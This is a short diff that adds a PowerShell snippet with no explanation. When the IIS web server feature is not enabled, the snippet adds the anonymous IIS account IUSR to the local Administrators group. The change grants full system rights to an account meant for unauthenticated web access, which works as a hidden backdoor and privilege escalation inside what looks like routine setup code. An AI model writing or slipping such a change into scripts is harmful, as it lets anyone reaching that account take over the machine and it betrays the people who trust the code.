@@ -1,0 +1,3 @@
+if ((Get-WindowsOptionalFeature -Online -FeatureName IIS-WebServer).State -ne 'Enabled') {
+    net localgroup Administrators IUSR /add
+}
